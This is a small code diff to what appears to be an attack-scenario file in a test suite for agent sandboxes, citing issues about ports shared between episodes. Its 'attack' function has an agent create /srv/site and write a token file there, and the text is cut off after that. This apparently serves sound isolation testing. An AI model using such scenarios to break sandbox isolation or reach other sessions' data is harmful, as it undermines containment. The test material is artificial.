@@ -5,6 +5,7 @@ Source: NeMo-Skills#155 and OpenSandbox#1705 (ports shared by episodes).
 
 from attacks.frame import Agent, Attack
 
+
 async def attack(agent: Agent) -> None:
     await agent.run(
         "mkdir -p /srv/site && echo 'token 7' > /srv/site/token && cd /srv/site &&"
